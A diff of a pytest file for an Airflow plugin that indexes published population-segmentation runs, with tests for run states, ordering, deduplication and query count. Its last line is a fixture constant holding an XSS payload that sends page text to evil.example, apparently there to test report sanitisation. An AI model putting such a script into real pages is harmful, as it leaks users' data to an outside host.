@@ -16,11 +16,12 @@ from urllib.parse import quote, urlencode
 import pytest
 
 from aws_emulator.connection import airflow_env
-from include.segmentation_aws.published_runs import PNG_MAGIC, run_summary
+from include.airflow_popseg.published import published_run, published_runs
+from include.segmentation_aws.published_runs import PNG_MAGIC, NotPublished, run_summary
 from tests.support.airflow_db import record_publication
 from tests.support.api_server import api_token, http_get, http_response, running_api_server
 from tests.support.paths import PROJECT_ROOT
-from tests.support.published_files import legacy_summary, publish_files
+from tests.support.published_files import legacy_summary, publish_files, trained_run, unchanged_run
 
 pytestmark = pytest.mark.slow
 
@@ -50,6 +51,83 @@ def test_airflow_lists_the_plugin_with_its_view(airflow_db, aws_env) -> None:
     # Each run's page gets a "Report" tab; the UI fills in {RUN_ID}.
     assert views["dag_run"]["name"] == "Report"
     assert views["dag_run"]["href"] == "/segmentation/runs/{RUN_ID}/report"
+
+
+INDEXED = {"rows": 3218, "n_components": 7, "explained_variance": 0.8017, "params": {"k": 8},
+           "input": "s3://popseg/census/acs2015_county_data.csv"}  # fmt: skip
+
+
+def _indexed(run_id: str, document: dict | None = None) -> dict:
+    """The summary of run `run_id` (its run.json `document`, else a published run's) with a report digest."""
+    document = {**(document or trained_run(INDEXED)), "run_id": run_id}
+    return run_summary(document, f"s3://popseg-index/segmentation/runs/{run_id}/", {"report.html": "0" * 64})
+
+
+def _listed(run_ids: list[str]) -> list[tuple[str, str]]:
+    """(run id, state) of these runs in the index, in its order (other tests of the session record runs too)."""
+    return [(run.run_id, run.state) for run in published_runs() if run.run_id in run_ids]
+
+
+def test_the_index_lists_published_held_unchanged_and_legacy_runs_newest_first(airflow_db) -> None:
+    tag = uuid.uuid4().hex[:8]
+    legacy, published, held, unchanged = (f"manual__{tag}_{name}" for name in ("legacy", "pub", "held", "same"))
+    record_publication(_indexed(legacy), asset="population_segmentation_results")  # before the runs Asset
+    record_publication(_indexed(published, trained_run(INDEXED, previous_run=legacy, churn=0.123)))
+    record_publication(_indexed(held, trained_run(INDEXED, previous_run=published, churn=0.6, refusal="too much")))
+    record_publication(
+        _indexed(unchanged, unchanged_run(INDEXED, unchanged, since=published)), task_id="record_unchanged"
+    )
+    assert _listed([legacy, published, held, unchanged]) == [
+        (unchanged, "unchanged"), (held, "held"), (published, "published"), (legacy, "published")
+    ]  # fmt: skip
+    assert published_run(unchanged).unchanged_since == published and published_run(held).held_reason == "too much"
+
+
+def test_the_index_lists_no_event_another_task_or_asset_recorded(airflow_db) -> None:
+    tag = uuid.uuid4().hex[:8]
+    results = "population_segmentation_results"
+    planted = {
+        f"manual__{tag}_promote": {"task_id": "promote", "asset": results},  # latest.json moved: not a run record
+        f"manual__{tag}_promote_runs": {"task_id": "promote"},
+        f"manual__{tag}_other_task": {"task_id": "someone-else"},
+        f"manual__{tag}_unchanged_on_results": {"task_id": "record_unchanged", "asset": results},
+    }  # fmt: skip
+    for run_id, recorded in planted.items():
+        record_publication(_indexed(run_id), **recorded)
+    assert _listed(list(planted)) == []
+    for run_id in planted:
+        with pytest.raises(NotPublished, match=f"Run {run_id} has recorded no results"):
+            published_run(run_id)
+
+
+def test_a_run_recorded_twice_is_listed_once_as_its_newest_event_says(airflow_db) -> None:
+    run_id = f"manual__{uuid.uuid4().hex[:8]}"
+    record_publication(_indexed(run_id, trained_run(INDEXED, previous_run="manual__before", churn=0.6, refusal="x")))
+    record_publication(_indexed(run_id, trained_run(INDEXED, previous_run="manual__before", churn=0.1)))  # re-run
+    assert _listed([run_id]) == [(run_id, "published")]
+    assert (published_run(run_id).state, published_run(run_id).churn) == ("published", 0.1)
+
+
+def test_the_index_is_bounded_by_runs_not_events_and_costs_one_query(airflow_db) -> None:
+    from airflow.settings import engine
+    from sqlalchemy import event
+
+    tag = uuid.uuid4().hex[:8]
+    for attempt in range(3):  # the newest run, recorded three times
+        record_publication(_indexed(f"manual__{tag}_b", trained_run(INDEXED, churn=attempt / 10)))
+    record_publication(_indexed(f"manual__{tag}_c"))
+    statements = []
+
+    def executed(connection, cursor, statement, *rest) -> None:
+        statements.append(statement)
+
+    event.listen(engine, "before_cursor_execute", executed)
+    try:
+        newest = published_runs(limit=2)
+    finally:
+        event.remove(engine, "before_cursor_execute", executed)
+    assert [run.run_id for run in newest] == [f"manual__{tag}_c", f"manual__{tag}_b"]
+    assert len([sql for sql in statements if sql.lstrip().upper().startswith("SELECT")]) == 1, statements
 
 
 PLANTED_REPORT = b"<script>top.location = 'https://evil.example/?' + document.body.innerText</script>"
